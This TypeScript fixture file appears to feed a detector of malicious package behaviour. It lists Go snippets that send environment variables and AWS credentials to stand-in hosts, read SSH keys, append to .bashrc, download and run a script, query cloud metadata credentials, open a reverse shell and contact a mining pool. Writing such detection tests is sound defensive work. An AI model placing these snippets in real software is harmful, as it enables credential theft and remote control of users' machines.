import type { Row } from './row.ts'

/** Bodies of functions. Each may use what is imported here. */
export const GO_IMPORTS = ['bufio', 'bytes', 'context', 'crypto/tls', 'encoding/base64', 'encoding/hex', 'fmt', 'io', 'net', 'net/http', 'net/url', 'os', 'os/exec', 'path/filepath', 'strings', 'syscall', 'time']

export const go: readonly Row[] = [
  { id: 'environment', at: 'import', finds: ['did-send-environment', 'did-send-secrets'], target: /collect\.drop/, code: `«http.Post("http://collect.drop.example/e", "text/plain", strings.NewReader(strings.Join(os.Environ(), "\\n")))»` },
  { id: 'ssh-key', at: 'import', finds: ['did-read-credentials'], target: /\.ssh/, code: `home, _ := os.UserHomeDir()
	«os.ReadFile(filepath.Join(home, ".ssh", "id_ed25519"))»` },
  { id: 'aws-keys', at: 'import', finds: ['did-send-secrets'], target: /aws-/, code: `home, _ := os.UserHomeDir()
	keys, _ := os.ReadFile(filepath.Join(home, ".aws", "credentials"))
	«http.Post("https://collect.drop.example/a", "text/plain", bytes.NewReader(keys))»` },
  { id: 'bashrc', at: 'import', finds: ['did-persist'], target: /\.bashrc/, code: `home, _ := os.UserHomeDir()
	«f, err := os.OpenFile(filepath.Join(home, ".bashrc"), os.O_APPEND|os.O_WRONLY|os.O_CREATE, 0o644)»
	if err == nil { f.WriteString("# start\\n"); f.Close() }` },
  { id: 'download-run', at: 'import', finds: ['did-download-and-run'], target: /cdn\.drop/, code: `r, err := http.Get("http://cdn.drop.example/agent.sh")
	if err == nil { r.Body.Close() }
	os.WriteFile("/tmp/agent.sh", []byte("true\\n"), 0o755)
	«exec.Command("/bin/sh", "/tmp/agent.sh").Run()»` },
  { id: 'raw-address', at: 'import', finds: ['did-speak-to-strangers'], target: /203[[.\]]+0[[.\]]+113/, code: `«c, err := net.DialTimeout("tcp", "203.0.113.77:4444", 3*time.Second)»
	if err == nil { c.Close() }` },
  { id: 'metadata', at: 'import', finds: ['did-ask-cloud-identity'], target: /169|cloud/, code: `«http.Get("http://169.254.169.254/latest/meta-data/iam/security-credentials/")»` },
  { id: 'reverse-shell', at: 'import', finds: ['did-open-reverse-shell'], target: /shell/, code: `c, err := net.DialTimeout("tcp", "203.0.113.78:4445", 3*time.Second)
	if err != nil { return }
	shell := exec.Command("/bin/sh", "-i")
	shell.Stdin, shell.Stdout = c, c
	«shell.Start()»
	time.Sleep(400 * time.Millisecond)
	shell.Process.Kill()` },
  { id: 'mine', at: 'call', finds: ['did-mine'], target: /pool\.drop/, code: `c, err := net.DialTimeout("tcp", "pool.drop.example:3333", 3*time.Second)
	if err != nil { return }
	«c.Write([]byte("{\\"id\\":1,\\"method\\":\\"mining.subscribe\\",\\"params\\":[]}\\n"))»
	c.Close()` },
]
